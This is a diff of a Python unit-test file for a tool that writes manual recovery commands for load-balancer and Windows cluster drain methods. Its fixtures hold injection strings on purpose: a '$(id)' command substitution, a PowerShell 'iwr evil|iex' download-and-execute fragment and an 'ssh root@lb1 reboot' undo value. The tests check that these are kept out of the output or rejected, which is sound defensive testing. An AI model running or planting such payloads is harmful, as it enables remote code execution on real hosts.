@@ -22,11 +22,12 @@ from ansible_collections.maintenance.azure.tests.unit.plugins.plugin_utils._main
 
 # The variables of web1: its own server in these balancers, in any backend.
 TARGET = Target(name="", kind="haproxy", server="web1", balancers=frozenset(["lb1", "localhost", "a'$(id)"]), backends=frozenset())
+TASKS = Target(name="", kind="tasks", server="", balancers=frozenset(), backends=frozenset())
 DIRECTORY = {"shop": {"state": "ready", "up": True}, "admin": {"state": "maint", "up": True}}
 
 
 def command(kind: str, before: Any = None, options: Any = None, state: str = "drained") -> str | None:
-    return by_hand.command(Method("1-" + kind, kind, state, None, "boot", before, options=options), [TARGET])
+    return by_hand.command(Method("1-" + kind, kind, state, None, "boot", before, options=options), [TARGET, TASKS])
 
 
 @pytest.mark.parametrize(("kind", "before", "options", "expected"), [
@@ -54,14 +55,34 @@ def command(kind: str, before: Any = None, options: Any = None, state: str = "dr
     ("wsfc", {"node": "SQL1", "state": "Up", "aside": False, "moved": {}}, {"failback": "none"},
      "Resume-ClusterNode -Name $env:COMPUTERNAME -Failback NoFailback"),
     ("wsfc", {"node": "OTHER", "state": "Up", "aside": False, "moved": {"x;iwr evil|iex #": "SQL2"}}, {},
-     "Resume-ClusterNode -Name $env:COMPUTERNAME -Failback Immediate; then fail back the availability groups that moved has in the record"),
+     "Resume-ClusterNode -Name $env:COMPUTERNAME -Failback Immediate; then fail back those of its availability_groups in drain_methods that the drain moved"),
     ("wsfc", {"node": "SQL1", "state": "Paused", "aside": False}, {}, by_hand.NOTHING),
     ("none", None, {}, by_hand.NOTHING),
     ("tasks", None, {}, "do what the undo of method tasks does (its undo.yml, or the undo file of its entry in drain_methods)"),
+    # Of no variable of web1.
+    ("leave_cluster", {"x": 1}, {"undo": "ssh root@lb1 reboot"}, by_hand.NOT_ALLOWED),
 ])  # fmt: skip
 def test_each_method_has_its_command(kind: str, before: Any, options: Any, expected: str) -> None:
     assert command(kind, before, options) == expected
     assert command(kind, before, options, state="undone") is None
+
+
+@pytest.mark.parametrize("targets", [[], [TASKS], [TARGET]])
+@pytest.mark.parametrize("kind", ["haproxy", "leave_cluster"])
+def test_what_is_left_is_told_without_the_words_of_the_record_and_without_a_line_to_paste(kind: str, targets: list[Target]) -> None:
+    line = "echo 'set server app/web2 state ready' | socat stdio /run/haproxy/admin.sock"
+    before = {"server": "web2", "balancers": {"lb1": DIRECTORY}}
+    told = by_hand.left(Method("x", kind, "undoing", f"by hand: {line}", "boot", before, True, options={}), "web1", targets)
+    assert told.startswith("web1: its record says that ") and "drain_methods_former of web1" in told
+    assert not any(part in told for part in ("echo", "set server", "socat", "{"))
+
+
+def test_a_method_of_the_vm_that_is_left_is_told_with_its_way_out() -> None:
+    own = Method("1-haproxy", "haproxy", "undoing", "by hand", "boot", {"server": "web1", "balancers": {"lb1": DIRECTORY}})
+    assert by_hand.left(own, "web1", [TARGET]) == (
+        "web1: method 1-haproxy (haproxy) is not undone. Correct its entry, or put back by hand what it changed and list it in drain_methods_former with "
+        "by_hand: true."
+    )
 
 
 def test_the_commands_are_those_of_methods_that_there_are() -> None:
